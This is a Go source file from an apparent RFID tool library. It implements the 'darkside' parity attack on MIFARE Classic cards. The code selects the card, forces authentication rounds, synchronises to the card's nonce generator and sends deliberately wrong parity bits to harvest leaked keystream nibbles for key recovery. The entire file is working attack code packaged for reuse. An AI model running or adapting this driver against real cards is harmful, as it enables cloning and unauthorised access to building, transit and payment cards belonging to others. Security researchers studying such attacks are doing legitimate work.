package rfidcore

import (
	"context"
	"log/slog"
)

// ParNibble is one leaked (candidate parity byte, keystream nibble)
// pair the darkside driver harvested for a given nt_diff slot.
type ParNibble struct {
	Parity byte
	Nibble byte
}

// DarksideResult is the outcome of a completed darkside run: eight
// (parity, nibble) pairs, one per nt_diff 0..7, plus the nonce they
// were collected against.
type DarksideResult struct {
	AttackedNonce uint32
	Pairs         [8]ParNibble
}

const (
	darksideMaxInvalidNonces     = 4
	darksideMaxUnsuccessfulSyncs = 32
	darksideMaxCatchupStreak     = 3
	darksideDistanceSearchMax    = 1 << 15
	darksideLowBitsRange         = 1 << 5 // search space for the top 5 bits in slots nt_diff > 0
)

// DarksideDriver runs the reader-nonce parity attack of spec.md §4.9
// against a 4-byte-UID MIFARE Classic card: it repeatedly
// SELECTs the card, starts AUTH on block 0, and probes the tag's
// parity-validation behavior with a deliberately-wrong parity byte on
// a fixed {0,0,0,0,0,0,0,0} {nr,ar} frame, harvesting one keystream
// nibble per nt_diff value 0..7 from any tag that leaks an encrypted
// NACK despite the bad parity. At nt_diff==0 the whole candidate parity
// byte is incremented until the tag leaks; in each later slot the
// byte's low 3 bits carry nt_diff and its top 5 bits are searched
// upward from the value the previous slot leaked at, giving up past 31.
type DarksideDriver struct {
	r        *ReaderSession
	firstTry bool

	syncCycles        int32
	haveNt            bool
	prevNt            uint32
	attackedNt        uint32
	haveAttacked      bool
	invalidNonces     int
	unsuccessfulSyncs int
	catchupStreak     int
	lastCatchup       int32
	haveLastCatchup   bool

	logger *slog.Logger
}

// NewDarksideDriver returns a driver bound to r. firstTry records the
// host's DARKSIDE(first_try) option; Run does not consult it, and every
// new driver starts calibration from scratch with no sync_cycles
// estimate carried over from an earlier run.
// Debug-level logging traces each attack round the same way
// pkg/ntag424's auth code traces APDU exchanges; it goes to
// slog.Default() unless WithLogger overrides it.
func NewDarksideDriver(r *ReaderSession, firstTry bool) *DarksideDriver {
	return &DarksideDriver{r: r, firstTry: firstTry, logger: slog.Default()}
}

// WithLogger overrides the driver's logger, for tests that want to
// capture trace output or silence it.
func (d *DarksideDriver) WithLogger(logger *slog.Logger) *DarksideDriver {
	d.logger = logger
	return d
}

// authRound runs step 1-2 of spec.md §4.9: SELECT the card, send
// AUTH(0x60, block 0), and return the tag nonce.
func (d *DarksideDriver) authRound(ctx context.Context) (uint32, error) {
	if _, err := d.r.Select(ctx); err != nil {
		return 0, err
	}
	if err := d.r.transmitFrame(ctx, []byte{0x60, 0x00}, false); err != nil {
		return 0, err
	}
	frame, err := d.r.receive(ctx)
	if err != nil {
		return 0, err
	}
	if len(frame.Data) < 4 {
		return 0, newErr(KindProtocolViolation, "short nonce")
	}
	return uint32(frame.Data[0]) | uint32(frame.Data[1])<<8 | uint32(frame.Data[2])<<16 | uint32(frame.Data[3])<<24, nil
}

// probe runs step 3/5: transmit the fixed {0}*8 {nr,ar} frame with par
// as the explicit per-byte parity bits (bit i of par is byte i's
// parity), and reports whether the tag emitted a 4-bit response and,
// if so, the decrypted-looking nibble (0x05 XOR the observed nibble,
// i.e. the keystream nibble the tag used).
func (d *DarksideDriver) probe(ctx context.Context, par byte) (nibble byte, leaked bool, err error) {
	var nrAr [8]byte
	parity := make([]byte, 8)
	for i := 0; i < 8; i++ {
		parity[i] = (par >> uint(i)) & 1
	}
	enc := NewReaderEncoder()
	symbols := enc.EncodeFrameWithParity(nrAr[:], parity)
	if _, err = d.r.tx.ReaderTransmit(ctx, symbols, nil); err != nil {
		return 0, false, err
	}

	dec := NewManchesterDecoderRaw()
	frame, err := d.r.tx.ReceiveFromTag(ctx, dec)
	if err != nil {
		if IsTimeout(err) {
			return 0, false, nil
		}
		return 0, false, err
	}
	if frame.BitLength != 4 || len(frame.Data) == 0 {
		return 0, false, nil
	}
	return (frame.Data[0] & 0x0F) ^ 0x05, true, nil
}

// calibrate implements step 4: on the first two successful rounds,
// measure how many PRNG steps separate the previous nonce from nt. A
// distance of 0 means this nt is already synchronized and becomes the
// attacked nonce; otherwise sync_cycles is nudged towards the true
// period.
func (d *DarksideDriver) calibrate(nt uint32) error {
	if !d.haveNt {
		d.prevNt = nt
		d.haveNt = true
		return nil
	}
	dist, found := PRNGDistance(d.prevNt, nt, darksideDistanceSearchMax)
	d.prevNt = nt
	if !found {
		d.invalidNonces++
		if d.invalidNonces > darksideMaxInvalidNonces {
			return newErr(KindAttackGaveUp, "unpredictable PRNG")
		}
		return nil
	}
	d.invalidNonces = 0
	if dist == 0 {
		d.attackedNt = nt
		d.haveAttacked = true
		d.logger.Debug("calibration locked", "nt", nt)
		return nil
	}
	elapsed := int32(1)
	d.syncCycles -= int32(dist) / elapsed
	for d.syncCycles <= 0 {
		d.syncCycles += 1 << 16
	}
	d.unsuccessfulSyncs++
	if d.unsuccessfulSyncs > darksideMaxUnsuccessfulSyncs {
		return newErr(KindAttackGaveUp, "unstable PRNG")
	}
	return nil
}

// resync implements step 6: nt drifted away from the attacked value.
// The catch-up cycle count is accepted (and sync treated as still
// good) once it repeats darksideMaxCatchupStreak times in a row;
// otherwise the drift is folded into sync_cycles and Run ends the
// round without probing.
func (d *DarksideDriver) resync(nt uint32) error {
	dist, found := PRNGDistance(nt, d.attackedNt, darksideDistanceSearchMax)
	if !found {
		d.haveAttacked = false
		d.haveNt = false
		return d.calibrate(nt)
	}
	catchup := -int32(dist)
	if d.haveLastCatchup && catchup == d.lastCatchup {
		d.catchupStreak++
	} else {
		d.catchupStreak = 1
	}
	d.lastCatchup = catchup
	d.haveLastCatchup = true
	if d.catchupStreak >= darksideMaxCatchupStreak {
		d.logger.Debug("resync settled", "catchup", catchup, "streak", d.catchupStreak)
		return nil
	}
	d.syncCycles += catchup
	for d.syncCycles <= 0 {
		d.syncCycles += 1 << 16
	}
	d.unsuccessfulSyncs++
	if d.unsuccessfulSyncs > darksideMaxUnsuccessfulSyncs {
		return newErr(KindAttackGaveUp, "unstable PRNG")
	}
	return nil
}

// Run drives the full darkside loop until all eight nt_diff slots are
// filled (isOK) or a failure mode from spec.md §4.9 aborts it.
func (d *DarksideDriver) Run(ctx context.Context) (*DarksideResult, error) {
	var result DarksideResult
	ntDiff := 0
	var parByte byte
	sawAnyLeak := false

	for ntDiff < 8 {
		nt, err := d.authRound(ctx)
		if err != nil {
			return nil, err
		}

		if !d.haveAttacked {
			if err := d.calibrate(nt); err != nil {
				return nil, err
			}
			continue
		}
		if nt != d.attackedNt {
			if err := d.resync(nt); err != nil {
				return nil, err
			}
			if !d.haveAttacked || d.catchupStreak < darksideMaxCatchupStreak {
				continue
			}
		}

		if ntDiff > 0 {
			parByte = (parByte &^ 0x07) | byte(ntDiff)
		}

		nibble, leaked, err := d.probe(ctx, parByte)
		if err != nil {
			return nil, err
		}
		if leaked {
			sawAnyLeak = true
			result.Pairs[ntDiff] = ParNibble{Parity: parByte, Nibble: nibble}
			d.logger.Debug("nt_diff slot filled", "nt_diff", ntDiff, "parity", parByte, "nibble", nibble)
			ntDiff++
			continue
		}

		if ntDiff == 0 {
			parByte++
			if parByte == 0 { // wrapped all 256 values with no leak
				if !sawAnyLeak {
					return nil, newErr(KindAttackGaveUp, "no NACK ever")
				}
			}
		} else {
			parLowBits := (parByte>>3)&0x1F + 1
			if parLowBits >= darksideLowBitsRange {
				return nil, newErr(KindAttackGaveUp, "no NACK ever")
			}
			parByte = (parLowBits << 3) | byte(ntDiff)
		}
	}

	result.AttackedNonce = d.attackedNt
	return &result, nil
}
